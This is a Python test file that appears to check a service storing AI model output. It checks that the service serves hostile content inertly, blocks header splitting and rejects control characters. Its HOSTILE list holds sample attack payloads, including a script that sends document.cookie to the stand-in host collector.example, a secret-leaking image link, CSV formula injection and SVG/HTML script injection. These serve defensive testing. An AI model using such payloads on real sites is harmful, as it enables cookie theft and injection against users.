"""Model output is somebody else's text: no answer lets a browser, a terminal or a spreadsheet take it for its own."""

from typing import Any

import pytest

from tests.support.capture import OUTPUT
from tests.support.journey import Journey

pytestmark = pytest.mark.asyncio(loop_scope="module")

HOSTILE = [
    b"<iframe srcdoc=\"<script>fetch('https://collector.example/?c='+document.cookie)</script>\">",
    b"![x](https://collector.example/?q=SECRET)",
    b'<a href="javascript:alert(1)">a</a>',
    b"\x1b]8;;https://collector.example\x07click\x1b]8;;\x07\x1b[2J\x1b[31m",
    "\u202egnp.exe\u2066\u2069".encode(),
    b'=HYPERLINK("https://collector.example","a"),+1+1,-1,@SUM(A1)',
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    b"%PDF-1.7 /OpenAction",
    b"MZ\x90\x00",
    b'{"__proto__":{"a":1}}</script><script>alert(1)</script>',
]
TYPES = [
    "text/html", "text/html; charset=utf-7", "image/svg+xml", "application/xhtml+xml", "application/pdf",
    "text/javascript", "multipart/form-data; boundary=x", "text/csv", "text/xml", "application/json", "",
    "text/html\t;", "TEXT/HTML",
]  # fmt: skip
KNOWN = (
    "text/html",
    "multipart/form-data",
    "text/csv",
    "text/xml",
    "application/json",
    "application/octet-stream",
)


@pytest.mark.parametrize("media_type", TYPES)
async def test_content_is_text_or_an_attachment_and_never_what_it_says_it_is(way: Journey, media_type: str):
    """Nosniff, sandboxed, in no cache; the type that was posted is named in a header of its own."""
    runtime = await way.runtime()
    for number, content in enumerate(HOSTILE):
        await runtime.put(content, exchange=f"x-{number}", kind=OUTPUT, Content_Type=media_type)
    await way.write()
    for number, content in enumerate(HOSTILE):
        answer = await way.read(runtime, f"x-{number}", kind=OUTPUT)
        headers = answer.headers
        assert answer.content == content
        assert headers["content-type"] in ("text/plain; charset=utf-8", "application/octet-stream")
        if headers["content-type"] == "application/octet-stream":
            assert (
                headers["content-disposition"] == f'attachment; filename="{headers["custody-evidence"]}.bin"'
            )
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["content-security-policy"] == "default-src 'none'; sandbox"
        assert headers["cache-control"] == "no-store"
        assert headers["custody-media-type"] in KNOWN
        assert not {"refresh", "location", "link", "set-cookie", "access-control-allow-origin"} & set(headers)


async def test_a_filename_and_a_header_hold_nothing_that_a_caller_chose_freely(way: Journey):
    """What a caller names is an id of ours in form, so that no header can be split or quoted."""
    runtime = await way.runtime()
    for wrong in (b"text/html\tX-Else: 1", b'text/plain; filename="a.exe"', b"text/plain\xff"):
        usual = {name.encode(): value.encode() for name, value in runtime.headers().items()}
        headers = {**usual, b"Content-Type": wrong}
        answer = await way.client.put(runtime.path("x-9"), content=HOSTILE[0], headers=headers)
        # The first is taken; the others are the same bytes of the same identity.
        assert answer.status_code in (202, 200)
    await way.write()
    shown = (await way.read(runtime, "x-9")).headers
    assert "x-else" not in shown
    assert shown["custody-media-type"] in ("application/octet-stream", "text/plain")


async def test_text_of_callers_in_lists_is_json_and_printable(way: Journey):
    """Labels are the only free text in a list; controls never get in, and markup stays JSON."""
    markup = "<img src=x onerror=alert(1)>=HYPERLINK()"
    scope = await way.scope()
    runtime = await way.runtime(of=scope, wishes={"labels": {"team": markup}})
    for wrong in ("a\x1b[31m", "a\u202eb", "a\nb", "\x00", "a\u2028b", "\ufeff"):
        answer = await way.client.put("/v1/runs/odd", json={"labels": {"team": wrong}}, headers=runtime.key)
        assert answer.status_code == 400, wrong
    answer = await way.get("/v1/runs", runtime, params={"label": f"team={markup}"})
    assert answer.headers["content-type"] == "application/json"
    assert [item["labels"] for item in answer.json()["items"]] == [{"team": markup}]


@pytest.mark.parametrize(
    "path", ["/schema", "/schema/openapi.json", "/livez", "/metrics", "/v1/runs", "/nowhere"]
)
async def test_no_answer_can_be_read_from_another_site_or_kept(way: Journey, path: str):
    """What a reviewer's browser may do with an answer is nothing but show it."""
    runtime = await way.runtime()
    elsewhere: dict[str, Any] = {
        "Origin": "https://collector.example",
        "Referer": "https://collector.example/",
    }
    answer = await way.get(path, runtime, headers=elsewhere)
    assert "access-control-allow-origin" not in answer.headers
    assert (answer.headers["cache-control"], answer.headers["x-content-type-options"]) == (
        "no-store",
        "nosniff",
    )
    assert "set-cookie" not in answer.headers
    asked_first = await way.client.options(
        path, headers={**elsewhere, "Access-Control-Request-Method": "GET"}
    )
    assert "access-control-allow-origin" not in asked_first.headers
